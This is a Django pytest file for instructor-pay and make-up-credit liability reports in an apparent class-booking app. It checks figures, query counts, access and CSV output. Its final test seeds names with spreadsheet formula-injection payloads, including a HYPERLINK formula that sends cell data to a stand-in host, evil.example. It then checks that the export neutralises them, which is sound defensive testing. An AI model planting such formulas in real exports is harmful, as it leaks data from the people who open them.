"""PKG-3 instructor pay and BEY-5 make-up liability: figures, fixed query counts, CSV."""

import csv
import io
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from django_scopes import scope

from bookings.models import AttendanceState as S
from bookings.services import attendance_set_state, makeup_set_attendance
from credits.makeups import makeup_book
from credits.services import credit_add_manual
from tests import factories as f

pytestmark = pytest.mark.django_db
NOW = datetime(2026, 11, 21, tzinfo=UTC)


def _csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_pkg_3_paid_attendances_and_make_ups_apart_per_instructor(world, login):
    teacher = world.staff_a
    klass = f.ClassFactory(
        programme__company=world.company_a,
        instructor=teacher,
        min_age_months=None,
        max_age_months=None,
    )
    e1, e2, e3 = f.EnrolmentFactory.create_batch(3, klass=klass)
    s = f.SessionFactory(klass=klass, local_date=date(2026, 11, 10))
    home = f.EnrolmentFactory(klass=f.ClassFactory(programme=klass.programme))
    with scope(company=world.company_a):
        attendance_set_state(enrolment=e1, session=s, state=S.PRESENT)
        attendance_set_state(enrolment=e2, session=s, state=S.NO_SHOW)
        attendance_set_state(
            enrolment=e3, session=s, state=S.CANCELLED, cancelled_at=s.starts_at - timedelta(days=3)
        )  # not paid
        later = f.SessionFactory(klass=klass, local_date=date(2026, 11, 24))
        credit = credit_add_manual(enrolment=home, reason="t", actor=None, valid_days=30, now=NOW)
        booking = makeup_book(credit=credit, session=later, now=NOW)
        makeup_set_attendance(booking=booking, state=S.PRESENT)
    client = login(world.admin_a)
    page = client.get("/manage/reports/instructor-pay/?first=2026-11-01&last=2026-11-30")
    rows = {r.instructor: (r.paid, r.makeups) for r in page.context["rows"]}
    assert rows[teacher.full_name] == (2, 1)
    rows_csv = _csv(
        client.get("/manage/reports/instructor-pay/?first=2026-11-01&last=2026-11-30&format=csv")
    )
    assert rows_csv[0] == ["Instructor", "Paid attendances", "Make-up attendances (not paid)"]
    assert rows_csv[-1] == ["Total", "2", "1"]
    bad = client.get("/manage/reports/instructor-pay/?first=2026-11-30&last=2026-11-01")
    assert "ends before it starts" in bad.content.decode()


def test_bey_5_liability_values_unused_credits_with_expiries_ahead(world, login):
    now = timezone.now()
    klass = f.ClassFactory(
        programme__company=world.company_a, location="Main pool", price_per_session=Decimal("25.00")
    )
    e = f.EnrolmentFactory(klass=klass)
    with scope(company=world.company_a):
        credit_add_manual(enrolment=e, reason="a", actor=None, valid_days=5, now=now)
        credit_add_manual(enrolment=e, reason="b", actor=None, valid_days=20, now=now)
        credit_add_manual(enrolment=e, reason="c", actor=None, now=now)  # open-ended
        credit_add_manual(
            enrolment=e, reason="gone", actor=None, valid_days=1, now=now - timedelta(days=3)
        )  # past expiry: not a liability
    client = login(world.owner_a)
    page = client.get("/manage/reports/makeup-liability/")
    (row,) = page.context["rows"]
    assert (row.location, row.credits, row.value) == ("Main pool", 3, Decimal("75.00"))
    assert (row.expiring_7, row.expiring_30, row.expiring_90) == (
        Decimal("25.00"),
        Decimal("50.00"),
        Decimal("50.00"),
    )
    rows_csv = _csv(client.get("/manage/reports/makeup-liability/?format=csv"))
    assert rows_csv[0][:4] == ["Programme", "Location", "Unused credits", "Value (AUD)"]
    assert rows_csv[-1] == ["Total", "", "3", "75.00", "25.00", "50.00", "50.00"]


def test_reports_cost_fixed_queries_and_are_for_admins(world, login):
    client = login(world.admin_a)

    def cost(url):
        with CaptureQueriesContext(connection) as ctx:
            assert client.get(url).status_code == 200
        return len(ctx.captured_queries)

    urls = [
        "/manage/reports/instructor-pay/?first=2026-01-01&last=2026-12-31",
        "/manage/reports/makeup-liability/",
    ]
    before = [cost(u) for u in urls]
    for _ in range(3):
        klass = f.ClassFactory(
            programme__company=world.company_a,
            instructor=f.MembershipFactory(company=world.company_a).user,
        )
        e = f.EnrolmentFactory(klass=klass)
        with scope(company=world.company_a):
            attendance_set_state(
                enrolment=e, session=f.SessionFactory(klass=klass), state=S.PRESENT
            )
            credit_add_manual(enrolment=e, reason="x", actor=None, valid_days=9)
    assert [cost(u) for u in urls] == before
    assert login(world.staff_a).get(urls[0]).status_code == 403


def test_bey_5_csv_exports_never_carry_a_formula(world, login):
    """Names typed by any staff login (instructor, programme, location) are text in the
    spreadsheet, never formulas; numbers stay numbers."""
    teacher = world.staff_a
    teacher.full_name = "+SUM(1+1)"
    teacher.save(update_fields=["full_name"])
    klass = f.ClassFactory(
        programme__company=world.company_a,
        programme__name='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        location="@cmd",
        instructor=teacher,
        price_per_session=Decimal("25.00"),
        min_age_months=None,
        max_age_months=None,
    )
    enrolment = f.EnrolmentFactory(klass=klass)
    session = f.SessionFactory(klass=klass, local_date=date(2026, 11, 10))
    with scope(company=world.company_a):
        attendance_set_state(enrolment=enrolment, session=session, state=S.PRESENT, now=NOW)
        credit_add_manual(enrolment=enrolment, reason="a", actor=None, now=timezone.now())
    client = login(world.admin_a)
    liability = _csv(client.get("/manage/reports/makeup-liability/?format=csv"))
    assert liability[1][:4] == [
        '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "'@cmd",
        "1",
        "25.00",
    ]
    pay = _csv(
        client.get("/manage/reports/instructor-pay/?first=2026-11-01&last=2026-11-30&format=csv")
    )
    assert pay[1] == ["'+SUM(1+1)", "1", "0"]
